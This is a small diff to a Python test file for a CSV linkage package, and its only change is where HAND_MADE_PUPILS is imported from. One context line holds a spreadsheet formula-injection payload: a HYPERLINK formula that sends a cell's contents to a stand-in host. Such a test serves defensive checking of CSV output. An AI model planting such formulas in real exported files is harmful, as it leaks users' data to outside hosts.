@@ -9,7 +9,8 @@ import pyarrow as pa
 
 from sharelog.linkage import link, write_csv_atomically
 
-from .conftest import HAND_MADE_PUPILS, World, read_matches, write_requests
+from ..worlds import HAND_MADE_PUPILS
+from .conftest import World, read_matches, write_requests
 
 FORMULA = '=HYPERLINK("http://x.example/?"&C2,"click")'
 
